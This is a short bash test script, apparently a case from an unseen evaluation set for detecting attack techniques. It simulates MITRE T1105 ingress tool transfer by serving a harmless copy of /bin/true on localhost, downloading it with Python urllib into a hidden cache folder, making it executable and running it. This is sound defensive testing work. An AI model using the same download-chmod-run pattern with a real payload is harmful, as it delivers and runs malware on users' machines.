#!/usr/bin/env bash
# attack: T1105 Download a tool with python's urllib into a home cache, chmod +x, run it
# set: unseen
. "$(dirname "$0")/lib/common.sh"
mkhome
mkdir -p "$HOME/.cache"
cp /bin/true "$SW/updater"
p=$(serve "$SW")
python3 -c "import urllib.request; urllib.request.urlretrieve('http://127.0.0.1:$p/updater', '$HOME/.cache/updater')"
chmod 755 "$HOME/.cache/updater"
"$HOME/.cache/updater"
